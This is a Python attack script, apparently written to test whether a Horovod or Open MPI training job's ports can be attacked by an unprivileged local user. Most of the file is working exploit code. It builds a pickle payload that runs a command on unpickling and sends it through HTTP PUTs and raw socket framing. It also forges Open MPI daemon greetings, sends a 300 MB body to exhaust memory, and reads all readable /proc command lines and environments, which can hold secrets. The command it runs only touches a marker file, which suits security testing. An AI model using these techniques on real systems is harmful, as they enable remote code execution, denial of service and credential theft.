"""Attack the ports of a job as a user without rights: `python stranger.py REACHED ADDRESS:PORT ...`.

The attacks send objects whose unpickling would create the file REACHED. The program prints a JSON dict: "got" has each
request that was not refused, and "shown" has the command lines and environments that this user can read.
"""

from __future__ import annotations

import base64
import json
import pickle
import socket
import struct
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

HUGE = 300 * 2**20
KEYS = ["127.0.0.1:0", "beta:0", "0"]
SCOPES = ["worker_addresses", "rank_and_size", "place", "global", "local_127.0.0.1", "cross_0", "runfunc"]


class Evil:
    def __reduce__(self):  # type: ignore[no-untyped-def]
        return subprocess.check_call, (["touch", sys.argv[1]],)


def request(host: str, port: int, head: str, body: bytes = b"") -> tuple[str, int]:
    """Send an HTTP request. Return the first line of the answer and the number of bytes of the body that were sent."""
    sent = 0
    try:
        with socket.create_connection((host, port), timeout=2) as connection:
            try:
                connection.sendall(f"{head} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n".encode())
                for at in range(0, len(body), 65536):
                    connection.sendall(body[at : at + 65536])
                    sent = at + 65536
            except OSError:
                pass  # the server has closed the connection; its answer can still be read
            return connection.recv(65536).partition(b"\r\n")[0].decode(errors="replace"), sent
    except OSError:
        return "", sent


def attack(place: str) -> list[str]:
    host, _, number = place.rpartition(":")
    port, data = int(number), pickle.dumps(Evil())
    if "HTTP" not in request(host, port, "GET /global/0")[0]:
        speak(host, port, data)
        return [f"{place}: answered as Open MPI: {answer!r}" for answer in greet(host, port)]
    got = []
    for scope in SCOPES:
        for key in KEYS:
            for path in (f"/{scope}/{key}", f"/{'0' * 32}:{port}/{scope}/{key}", f"//{scope}/{key}"):
                for head, body in (
                    (f"GET {path}", b""),
                    (f"PUT {path}", base64.b64encode(data)),
                    (f"DELETE {path}", b""),
                ):
                    answer, _ = request(host, port, head, body)
                    if "HTTP" not in answer or " 200 " in answer:
                        got.append(f"{place}: {head}: {answer}")
    answer, sent = request(host, port, "PUT /worker_addresses/127.0.0.1:0", bytes(HUGE))
    if sent > HUGE / 10:
        got.append(f"{place}: took {sent} bytes: {answer}")
    return got


def speak(host: str, port: int, data: bytes) -> None:
    """Send `data` twice in the format of Horovod's services: a digest, the length of the data, and the data.

    The digest is wrong both times. The length is wrong only the first time.
    """
    for length in (2**31 - 1, len(data)):
        try:
            with socket.create_connection((host, port), timeout=2) as connection:
                connection.sendall(bytes(32) + struct.pack("i", length) + data)
                connection.recv(100)
        except OSError:
            pass


def greet(host: str, port: int) -> list[bytes]:
    """Greet a port of Open MPI as a daemon of mpirun does. Return its answers.

    The first greeting has a wrong job number. Its answer begins with the right number, which the second greeting uses.
    """
    answers = []
    job = 0x12340000
    for _ in range(2):
        head = struct.pack("=IIII", job, 7, job, 0) + struct.pack(">III", 0, 0, 8) + bytes([1]) + bytes(35)
        try:
            with socket.create_connection((host, port), timeout=2) as connection:
                connection.sendall(head + bytes([0, 1]) + b"4.0.0" + bytes(1))
                answer = connection.recv(100)
        except OSError:
            continue
        if answer:
            answers.append(answer)
            job = struct.unpack("=I", answer[:4].ljust(4, b"."))[0]
    return answers


def shown() -> bytes:
    """Return all command lines and environments of this machine that this user can read."""
    found = b""
    for path in [*Path("/proc").glob("[0-9]*/cmdline"), *Path("/proc").glob("[0-9]*/environ")]:
        try:
            if path.parent.name != "self":
                found += path.read_bytes()
        except OSError:
            pass
    return found


if __name__ == "__main__":
    with ThreadPoolExecutor(16) as threads:
        got = [found for each in threads.map(attack, sys.argv[2:]) for found in each]
    print(json.dumps({"got": got, "shown": shown().decode(errors="replace")}))
